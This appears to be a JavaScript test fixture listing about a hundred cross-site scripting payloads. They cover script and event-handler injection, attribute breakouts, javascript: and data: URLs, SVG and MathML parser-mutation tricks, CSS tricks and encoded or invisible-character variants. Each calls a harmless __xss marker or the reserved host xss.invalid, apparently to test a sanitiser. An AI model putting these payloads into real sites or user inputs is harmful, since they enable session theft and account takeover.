/**
 * A hundred ways a stranger's words can try to be carried out instead of shown. `RUN` is the deed: a call of `__xss` with the payload's place
 * in the list, which {@link Watch} puts into every frame. `OUT` is an address nobody may ever ask for.
 */
const ways = [
  // elements
  '<script>RUN</script>', '<ScRiPt>RUN</sCrIpT >', '<script/x>RUN</script>', '<script src=data:text/javascript,RUN></script>', '<img src=x onerror=RUN>', '<img/src=x/onerror=RUN>',
  '<IMG SRC=x OnErRoR="RUN">', '<img src=x onerror\t=\tRUN>', '<body onload=RUN>', '<details open ontoggle=RUN><summary>x', '<video src=x onerror=RUN>', '<video><source onerror=RUN>',
  '<audio src=x onerror=RUN>', '<input autofocus onfocus=RUN>', '<textarea autofocus onfocus=RUN>', '<iframe onload=RUN></iframe>', '<iframe srcdoc="<script>RUN</script>"></iframe>',
  '<iframe src="javascript:RUN"></iframe>', '<object data="data:text/html,<script>RUN</script>"></object>', '<embed src="data:text/html,<script>RUN</script>">', '<link rel=stylesheet href="data:text/css,x" onload=RUN>',
  '<style onload=RUN>*{}</style>', '<meta http-equiv=refresh content="0;url=OUT">', '<base href="OUT/"><img src=x onerror=RUN>', '<form action="javascript:RUN"><button autofocus>x</button></form>',
  '<a href="javascript:RUN">x</a>', '<a href="java&#x09;script:RUN">x</a>', '<a href="&#106;&#97;&#118;&#97;script:RUN">x</a>', '<b contenteditable autofocus onfocus=RUN>x</b>', '<template><script>RUN</script></template>', '<marquee onstart=RUN>x</marquee>',
  // out of an attribute
  '" autofocus onfocus=RUN x="', '\' autofocus onfocus=RUN x=\'', '"><img src=x onerror=RUN>', '\'><img src=x onerror=RUN>', '><svg onload=RUN>', 'x onerror=RUN src=x', '"/><script>RUN</script><"', '\\"><img src=x onerror=RUN>',
  '" style="animation:x 1s" onanimationstart="RUN', '`onerror=RUN src=x',
  // addresses
  'javascript:RUN', 'JaVaScRiPt:RUN', '\u0001javascript:RUN', 'java\tscript:RUN', 'javascript://xss.invalid/%0aRUN', 'javascript:/*--></title></style></textarea></script>*/RUN', 'data:text/html,<script>RUN</script>', 'data:text/html;base64,BASE64',
  '//xss.invalid/x', 'https://xss.invalid/"onmouseover="RUN', 'https://a.example/<img src=x onerror=RUN>', 'vbscript:RUN',
  // style sheets
  '<style>@import"OUT";</style>', '<style>*{background:url(OUT)}</style>', '<b style="background:url(OUT)">x</b>', '<b style="width:expression(RUN)">x</b>', '</style><script>RUN</script>', 'red;background:url(OUT)', '<link rel=stylesheet href=OUT>',
  // SVG and MathML
  '<svg onload=RUN>', '<svg><script>RUN</script></svg>', '<svg><script href="data:text/javascript,RUN"/></svg>', '<svg><animate onbegin=RUN attributeName=x dur=1s>', '<svg><set onbegin=RUN attributeName=x>', '<svg><a xlink:href="javascript:RUN"><text y=20>x</text></a></svg>',
  '<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>', '<svg><image href=x onerror=RUN>', '<math href="javascript:RUN">x</math>', '<math><annotation-xml encoding="text/html"><img src=x onerror=RUN></annotation-xml></math>',
  // what a parser makes of it the second time
  '<noscript><p title="</noscript><img src=x onerror=RUN>">', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>', '<svg></p><style><a id="</style><img src=x onerror=RUN>">', '<math><mi><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">',
  '<!--><img src=x onerror=RUN>-->', '<![CDATA[><img src=x onerror=RUN>]]>', '<xmp><p title="</xmp><img src=x onerror=RUN>">', '</textarea><img src=x onerror=RUN>', '</title><script>RUN</script>', '</iframe></body></html><script>RUN</script>',
  // templates and scripts
  '\';RUN;\'', '";RUN;"', '${RUN}', '{{constructor.constructor("RUN")()}}', '\'-RUN-\'', '\\u003cscript\\u003eRUN\\u003c/script\\u003e', '{"__proto__":{"innerHTML":"<img src=x onerror=RUN>"}}', '\u2028RUN',
  // other markup, directions, letters nobody sees
  '[x](javascript:RUN)', '![x](x"onerror="RUN)', '\u202e<img src=x onerror=RUN>\u202c', '\ufeff<script>RUN</script>', '<\u200bscript>RUN</script>', '\uff1cscript\uff1eRUN\uff1c/script\uff1e',
  // encoded once or twice
  '%3Cscript%3ERUN%3C/script%3E', '&lt;img src=x onerror=RUN&gt;', '=?utf-8?Q?=3Cimg_src=3Dx_onerror=3DRUN=3E?=', '=?utf-8?B?TAGGED?=', '+ADw-script+AD4-RUN+ADw-/script+AD4-', '=HYPERLINK("OUT";"RUN")',
]

const base64 = text => Buffer.from(text).toString('base64')

/** The payloads, each as it would be written. */
export const payloads = ways.map((way, place) => {
  const deed = `__xss(${place})`
  return way.replaceAll('RUN', deed).replaceAll('OUT', `https://xss.invalid/${place}`).replaceAll('BASE64', base64(`<script>${deed}</script>`)).replaceAll('TAGGED', base64(`<img src=x onerror=${deed}>`))
})

/** The payload at a place, round and round. */
export const payload = place => payloads[((place % payloads.length) + payloads.length) % payloads.length]
